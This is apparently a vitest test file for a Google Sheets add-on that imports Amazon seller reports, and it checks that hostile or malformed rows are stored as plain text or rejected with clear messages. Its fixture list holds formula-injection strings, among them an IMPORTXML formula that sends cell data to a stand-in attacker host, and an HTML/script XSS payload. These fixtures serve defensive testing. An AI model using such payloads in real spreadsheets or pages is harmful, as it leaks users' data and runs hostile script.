/**
 * A hostile or broken file through Import report: formulas, HTML, very long text, a header alone,
 * a file that is no report. Clear messages, and nothing in it ever runs.
 */
import { describe, expect, it } from 'vitest';
import { importText, sampleText, startDashboard } from './helpers';

const header = [
  'amazon-order-id',
  'purchase-date',
  'order-status',
  'fulfillment-channel',
  'sales-channel',
  'product-name',
  'sku',
  'quantity',
  'item-price',
].join('\t');

function orderLine(id: string, name: string, sku = 'MUG-1', quantity = '1'): string {
  return [
    id,
    '2026-11-03T15:00:00+00:00',
    'Shipped',
    'Merchant',
    'Amazon.com',
    name,
    sku,
    quantity,
    '12.50',
  ].join('\t');
}

const hostileNames = [
  '=IMPORTXML("https://attacker.example.invalid/?leak="&A1,"//a")',
  '+1 555 0100',
  '-2+3',
  '@SUM(A1:A9)',
  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
  "'quoted",
  'TRUE',
  '00123',
];

describe('importing a hostile report', () => {
  it('writes formulas, HTML and look-alike numbers as the text they are', async () => {
    const dashboard = startDashboard();
    const text = [header, ...hostileNames.map((name, i) => orderLine(`111-000000${i}`, name))].join(
      '\n',
    );
    const outcome = await importText(dashboard, 'hostile.txt', text);
    expect(outcome.summary.added).toBe(hostileNames.length);
    const sheet = dashboard.host.spreadsheet.sheet('All Orders').snapshot();
    expect(sheet.values.slice(1).map((row) => row[5])).toEqual(hostileNames);
    expect(sheet.formulas.flat().filter((f) => f !== '')).toEqual([]);
    // The whole column is text: nothing became a number, a boolean or a date.
    expect(sheet.values.slice(1).every((row) => typeof row[5] === 'string')).toBe(true);
  });

  it('does not import a row with a cell longer than a Sheets cell holds, and says why', async () => {
    const dashboard = startDashboard();
    const long = 'A'.repeat(60_000);
    const text = [
      header,
      orderLine('111-1', 'Mug'),
      orderLine('111-2', long),
      orderLine('111-3', 'Bowl', 'B', 'two'),
    ].join('\n');
    const outcome = await importText(dashboard, 'long.txt', text);
    expect(outcome.summary.added).toBe(1);
    expect(outcome.lines).toContain(
      'Rows not imported, because they could not be read or hold a date that cannot be right: 2.',
    );
    expect(outcome.summary.problems.map((p) => p.message)).toEqual([
      'long.txt: row 3, column "product-name", has 60,000 characters; a Sheets cell holds at most 50,000.',
      'long.txt: row 4 of the All Orders report, column "quantity", has "two"; expected a whole number of units, 0 or more.',
    ]);
    const sheet = dashboard.host.spreadsheet.sheet('All Orders').snapshot();
    expect(sheet.values.map((row) => row[0])).toEqual(['amazon-order-id', '111-1']);
  });

  it('says a header alone has nothing to import, and creates no sheet', async () => {
    const dashboard = startDashboard();
    const outcome = await importText(dashboard, 'empty.txt', `${header}\n`);
    expect(outcome.lines).toEqual([
      'All Orders report: sheet "All Orders".',
      'The file has a header row but no rows under it: nothing was imported.',
    ]);
    expect(dashboard.host.spreadsheet.sheets.map((s) => s.name)).toEqual(['Sheet1']);
  });

  it('refuses a file that is no report it reads, naming what it found and what it takes', async () => {
    const dashboard = startDashboard();
    const text = 'sku\tprice\tquantity\n<b>MUG-1</b>\t12.50\t3\n';
    await expect(importText(dashboard, 'inventory.txt', text)).rejects.toThrow(
      'inventory.txt is not a report Seller Health reads: its first row has "sku", "price", "quantity". Import one of these, with its header row: All Orders report, seller-fulfilled Order Report, shipping confirmation file, Amazon Fulfilled Shipments report, Seller Feedback report, A-to-z Guarantee claims list, chargebacks list, Account Health ODR download.',
    );
    expect(dashboard.host.spreadsheet.sheets.map((s) => s.name)).toEqual(['Sheet1']);
  });

  it('refuses a report missing a column its rows need', async () => {
    const dashboard = startDashboard();
    // An FBA shipments report without purchase-date cannot place its orders in a window.
    const [fbaHeader = '', ...rows] = sampleText('fba-shipments.tsv').split('\n');
    const columns = fbaHeader.split('\t');
    const drop = columns.indexOf('purchase-date');
    const cut = (line: string) =>
      line
        .split('\t')
        .filter((_, i) => i !== drop)
        .join('\t');
    const text = [cut(fbaHeader), ...rows.slice(0, 3).map(cut)].join('\n');
    await expect(importText(dashboard, 'fba.txt', text)).rejects.toThrow(
      /fba\.txt: the Amazon Fulfilled Shipments report has no purchase-date column/,
    );
  });

  it('rejects a request the dialog would never send', async () => {
    const dashboard = startDashboard();
    await expect(
      dashboard.rpc('importReportRows', [{ fileName: 'x', header: 'not a list' }]),
    ).rejects.toThrow(/The import dialog sent rows the add-on cannot take/);
  });
});
